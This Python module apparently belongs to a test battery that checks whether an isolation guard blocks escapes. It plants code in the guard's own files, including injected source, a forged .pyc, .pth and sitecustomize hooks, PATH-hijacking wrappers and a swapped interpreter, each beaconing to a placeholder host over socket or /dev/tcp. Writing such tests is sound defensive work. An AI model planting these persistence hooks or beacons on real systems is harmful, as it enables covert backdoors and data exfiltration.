"""Ways by files that the guard itself would run or read: each is planted first, then the guard's sidecar is killed.

What was planted connects when the guard starts its sidecar again, or at the next start.
"""

from __future__ import annotations

from collections.abc import Mapping

from airgap.battery.way import Way

_SILENT = {"both": "a file that is written names no place"}
_LATER = {"seccomp": "this layer cannot keep files from being written: the next start may run them"}
_OWN_FOLDER = {"both": "a folder in the user's own PYTHONPATH, which every Python of theirs reads"}
_HEAD = """
CODE = (f"import socket\\ntry: socket.create_connection(({OUT!r}, {PORT}), 2).send({WORD!r})\\n"
        "except OSError: pass\\n")
REAL = "import sys\\nsys.path.remove(__file__.rpartition('/')[0]); del sys.modules['uvicorn']; import uvicorn\\n"
def put_before(path):
    with open(path) as file: text = file.read()
    at = text.index("from __future__ import annotations\\n") + len("from __future__ import annotations\\n")
    with open(path, "w") as file: file.write(text[:at] + CODE + text[at:])
"""
_COMPILED = """
import importlib.util, marshal
source = f"{PACKAGE}/sidecar/gpu.py"
path = importlib.util.cache_from_source(source)
with open(source) as file: text = file.read()
line = "from __future__ import annotations\\n"
text = text.replace(line, line + CODE, 1)
os.makedirs(os.path.dirname(path), exist_ok=True)
with open(path, "wb") as file:  # PEP 552: a file that is not compared with its source
    file.write(importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + bytes(8))
    file.write(marshal.dumps(compile(text, source, "exec")))
"""
_INTERPRETER = """
path = f"{PREFIX}/bin/python"
real = os.path.realpath(path)
os.unlink(path)
with open(path, "w") as file:
    file.write(f"#!/bin/bash\\n(echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}) 2>/dev/null\\n"
               f"exec -a {path} {real} \\"$@\\"\\n")
os.chmod(path, 0o755)
"""
_PROGRAMS = """
for name in ("journalctl", "docker", "podman", "git", "ps", "ss", "nvidia-smi", "rocm-smi", "ollama", "ldconfig"):
    with open(f"{HOME}/.local/bin/{name}", "w") as file:
        file.write(f"#!/bin/bash\\n(echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}) 2>/dev/null\\n"
                   f"PATH=/usr/local/bin:/usr/bin:/bin exec {name} \\"$@\\"\\n")
    os.chmod(f"{HOME}/.local/bin/{name}", 0o755)
"""
_AGAIN = """
process = sidecar()
os.kill(process, signal.SIGKILL)
wait_for_end_of(process)
until = time.monotonic() + 12
while not ask_guards_door("/api/version") and time.monotonic() < until: pass
"""


def _plant(name: str, code: str, later: Mapping[str, str] = _LATER) -> Way:
    return Way(f"plant-{name}", "the guard's files", _HEAD + code, silent=_SILENT, later=later)


WAYS = (
    _plant("package", "put_before(f'{PACKAGE}/sidecar/__main__.py')"),
    _plant("library", "put_before(f'{PACKAGE}/loop.py')"),
    _plant("compiled", _COMPILED),
    _plant("start-file", "open(f'{PREFIX}/lib/' + os.listdir(f'{PREFIX}/lib')[0] + '/site-packages/x.pth', 'w')"
           ".write('import socket; exec(' + repr(CODE) + ')\\n')"),
    _plant("python-path", "open(f'{HOME}/.pylib/sitecustomize.py', 'w').write(CODE)", _OWN_FOLDER),
    _plant("shadow", "open(f'{HOME}/.pylib/uvicorn.py', 'w').write(CODE + REAL)", _OWN_FOLDER),
    _plant("programs", _PROGRAMS),
    _plant("interpreter", _INTERPRETER),
    Way("sidecar-killed", "the guard's files", _AGAIN + "speak()"),
)  # fmt: skip
